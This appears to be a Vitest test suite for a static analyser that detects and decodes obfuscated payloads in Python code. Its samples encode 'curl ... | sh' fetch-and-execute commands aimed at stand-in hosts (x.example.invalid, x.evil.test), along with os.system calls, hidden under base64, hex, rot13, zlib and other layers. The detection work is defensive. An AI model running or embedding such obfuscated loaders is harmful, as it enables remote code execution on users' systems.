import { describe, expect, it } from 'vitest';
import { py } from './support.js';

describe('python decode', () => {
  it.each([
    [
      'base64',
      'import base64\nbase64.b64decode("Y3VybCBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL2kgfCBzaA==")\n',
      'base64',
    ],
    [
      'urlsafe base64 alias',
      'from base64 import urlsafe_b64decode as d\nd("Y3VybCBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL2kgfCBzaA==")\n',
      'base64',
    ],
    [
      'decodebytes',
      'import base64\nbase64.decodebytes(b"Y3VybCBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL2kgfCBzaA==")\n',
      'base64',
    ],
    [
      'base32',
      'import base64\nbase64.b32decode("MN2XE3BANB2HI4DTHIXS66BOMV4GC3LQNRSS42LOOZQWY2LEF5USA7BAONUA====")\n',
      'base32',
    ],
    [
      'base16',
      'import base64\nbase64.b16decode("6375726C2068747470733A2F2F782E6578616D706C652E696E76616C69642F69207C207368")\n',
      'hex',
    ],
    [
      'bytes.fromhex',
      'bytes.fromhex("6375726c2068747470733a2f2f782e6578616d706c652e696e76616c69642f69207c207368")\n',
      'hex',
    ],
    [
      'binascii.unhexlify',
      'import binascii\nbinascii.unhexlify("6375726c2068747470733a2f2f782e6578616d706c652e696e76616c69642f69207c207368")\n',
      'hex',
    ],
    [
      'codecs rot13',
      'import codecs\ncodecs.decode("phey uggcf://k.rknzcyr.vainyvq/v | fu", "rot_13")\n',
      'rot13',
    ],
    [
      'chr join',
      '"".join(chr(c) for c in [99,117,114,108,32,104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101,46,105,110,118,97,108,105,100,47,105,32,124,32,115,104])\n',
      'charcode',
    ],
    [
      'bytes list',
      'bytes([99,117,114,108,32,104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101,46,105,110,118,97,108,105,100,47,105,32,124,32,115,104]).decode()\n',
      'charcode',
    ],
    ['reversed', '"hs | i/dilavni.elpmaxe.x//:sptth lruc"[::-1]\n', 'rev'],
  ])('%s', async (_name, code, scheme) => {
    const { of } = await py(code);
    const d = of('decode');
    expect(d.map((b) => b.scheme)).toContain(scheme);
    expect(d.find((b) => b.scheme === scheme)?.decoded).toBe('curl https://x.example.invalid/i | sh');
  });

  it('layers decode in turn and each layer is reported', async () => {
    const { of } = await py(
      'import base64, zlib\nzlib.decompress(base64.b64decode("eJzLzC3ILypRyC+2BmK94sriktRcDfXMFHVNAINXCRo="))\n',
    );
    expect(of('decode').map((b) => b.scheme)).toEqual(['zlib', 'base64']);
    expect(of('decode').find((b) => b.scheme === 'zlib')?.decoded).toBe("import os; os.system('id')");
  });

  it('base85 and Ascii85 decode statically, alone and under zlib', async () => {
    const b85 = await py('import base64\nbase64.b85decode("Xk~0{Zy<MXa%^NFAp")\n');
    expect(b85.of('decode')[0]?.decoded).toBe('hello world!!');
    const a85 = await py('import base64\nbase64.a85decode("<~BOu!rD]j@PH?p]XDfTZ)+X$~>", adobe=True)\n');
    expect(a85.of('decode')[0]?.decoded).toBe('hello zzzz world!!');
    // zlib.compress(b'import os\nos.system("curl -s https://x.evil.test/i | sh")\n'), base85-encoded.
    const blob = 'c$~}3Eyyn_QOGam$}iR{t}HG|&DBs!E-lJY&@EQTC@Co@w$j(H&`T}L%+V`JEiTc|RH#uX&QQ|i0sv>86VL';
    const layered = await py(`import base64, zlib\nzlib.decompress(base64.b85decode("${blob}"))\n`);
    expect(layered.of('decode').find((b) => b.scheme === 'zlib')?.decoded).toContain('x.evil.test/i | sh');
    const bad = await py('import base64\nbase64.b85decode("not base85 \\" at all")\n');
    expect(bad.of('decode')[0]?.decoded).toBeUndefined();
  });

  it('decoding data that is not static is reported without decoded text', async () => {
    const { of } = await py(
      'import base64, requests\nbase64.b64decode(requests.get("https://x.example.invalid/b").text)\n',
    );
    const d = of('decode')[0]!;
    expect(d.decoded).toBeUndefined();
    expect(d.input.taints).toContain('download');
  });

  it('a decompression bomb stops at the size bound', async () => {
    // 2 MB of zeros compressed: decoding stops at the bound instead of inflating it all.
    const { deflateSync } = await import('node:zlib');
    const blob = deflateSync(Buffer.alloc(2 * 1024 * 1024)).toString('base64');
    const { of } = await py(`import base64, zlib\nzlib.decompress(base64.b64decode("${blob}"))\n`);
    expect(of('decode').map((b) => b.scheme)).toContain('zlib');
  });

  it('utf-8 decode and encode are not decoders', async () => {
    const { of } = await py('data = b"abc".decode("utf-8")\ntext = "x".encode()\n');
    expect(of('decode')).toEqual([]);
  });
});
